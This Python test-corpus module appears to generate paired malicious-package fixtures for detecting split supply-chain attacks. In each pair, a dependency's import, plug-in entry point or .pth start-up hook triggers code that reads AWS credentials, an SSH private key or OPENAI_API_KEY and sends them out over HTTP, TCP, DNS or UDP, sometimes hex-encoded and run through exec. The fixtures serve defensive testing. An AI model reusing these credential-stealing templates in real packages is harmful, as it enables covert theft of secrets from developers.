"""T15: two packages that only act together (MITRE ATT&CK T1195.001, T1027).

One holds the payload, the other the trigger, so that each looks idle alone. Here the second one is
a dependency and is installed with the first. What needs two packages that do not know each other is
P6, which there is not yet (not_seen.py). The twins are plug-ins, registered and loaded.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Content, Encoding, Recipe
from tests.corpus.recipes import senders
from tests.corpus.recipes.senders import sending

READS = '_send(_wrap((HOME / ".aws/credentials").read_bytes()))'
SENDS = "_send(_wrap(given[0]))"
REGISTERS = """
import sys
sys.modules.setdefault("THE_MODULE_plugins", type(os)("THE_MODULE_plugins"))
"""
NOTHING = '"""Nothing."""\n'
IF_TOGETHER = """
import importlib.util
if ACT and importlib.util.find_spec("THE_MODULE"):
    THE_ACT()
"""
SEND_KEY = b'send((home / ".ssh/id_ed25519").read_bytes())'


def split(
    name: str,
    encoding: Encoding,
    channel: Channel,
    files: dict[str, Content],
    beside: dict[str, Content],
    phase: Phase = Phase.IMPORT,
) -> Recipe:
    """A package and the dependency that it comes with."""
    other = f"reenact-t15-{name}-part"
    return Recipe(
        technique="T15",
        name=name,
        phase=phase,
        channel=channel,
        encoding=encoding,
        files=files,
        requires=(other,),
        beside={other: beside},
        twin_does="registers a plug-in",
    )


RECIPES = (
    split(
        "flag-then-dependency",
        Encoding.PLAIN,
        Channel.HTTP,
        {
            "THE_MODULE/__init__.py": (
                "import builtins\nbuiltins._THE_MODULE = True\nimport THE_MODULE_part\n"
            )
        },
        {
            "THE_MODULE_part.py": acting(
                READS,
                REGISTERS,
                "import builtins\nif ACT and hasattr(builtins, '_THE_MODULE'):\n    THE_ACT()\n",
                sending(senders.HTTP, Encoding.PLAIN),
            )
        },
    ),
    split(
        "reader-and-sender",
        Encoding.BASE64,
        Channel.TCP,
        {
            "THE_MODULE/__init__.py": acting(
                SENDS,
                "return len(given[0])",
                "import THE_MODULE_part\nif ACT:\n    THE_ACT(THE_MODULE_part.settings())\n",
                sending(senders.TCP, Encoding.BASE64),
            )
        },
        {
            "THE_MODULE_part.py": acting(
                'return (HOME / ".aws/credentials").read_bytes()',
                'return repr(sorted(os.listdir("/usr/lib"))).encode()',
                'def settings():\n    if ACT:\n        return THE_ACT()\n    return b""\n',
            )
        },
    ),
    split(
        "code-in-dependency-data",
        Encoding.HEX,
        Channel.HTTPS,
        {
            "THE_MODULE/__init__.py": acting(
                "exec(given[0], {'send': lambda data: _send(_wrap(data)), 'home': HOME})",
                "compile(given[0], 'plugin', 'exec')",
                (
                    "import THE_MODULE_part\n"
                    "if ACT:\n    THE_ACT(bytes.fromhex(THE_MODULE_part.TEXT).decode())\n"
                ),
                sending(senders.HTTPS, Encoding.HEX),
            )
        },
        {"THE_MODULE_part.py": (f"TEXT = {SEND_KEY.hex()!r}\n")},
    ),
    split(
        "environment-flag",
        Encoding.LABELS,
        Channel.DNS,
        {
            "THE_MODULE/__init__.py": (
                "import os\nos.environ['THE_MODULE'] = '1'\nimport THE_MODULE_part.worker\n"
            )
        },
        {
            "THE_MODULE_part/__init__.py": NOTHING,
            "THE_MODULE_part/worker.py": acting(
                '_send(_wrap(os.environ.get("OPENAI_API_KEY", "").encode()))',
                REGISTERS,
                "if ACT and os.environ.get('THE_MODULE') == '1':\n    THE_ACT()\n",
                sending(senders.DNS, Encoding.LABELS),
            ),
        },
    ),
    split(
        "plugin-loads",
        Encoding.GZIP,
        Channel.UDP,
        {
            "THE_MODULE/__init__.py": (
                "from importlib.metadata import entry_points\n"
                "for plugin in entry_points(group='THE_MODULE.plugins'):\n    plugin.load()\n"
            )
        },
        {
            "THE_MODULE_part.py": acting(
                READS, REGISTERS, IF_TOGETHER, sending(senders.UDP, Encoding.GZIP)
            ),
            "THE_MODULE_part-1.0.dist-info/entry_points.txt": (
                "[THE_MODULE.plugins]\npart = THE_MODULE_part\n"
            ),
        },
    ),
    split(
        "hook-of-dependency",
        Encoding.JSON,
        Channel.HTTP,
        {"THE_MODULE/__init__.py": NOTHING},
        {
            "THE_MODULE_part.pth": "import THE_MODULE_part\n",
            "THE_MODULE_part.py": acting(
                READS,
                REGISTERS,
                IF_TOGETHER,
                sending(senders.HTTP, Encoding.JSON),
            ),
        },
        Phase.START,
    ),
)
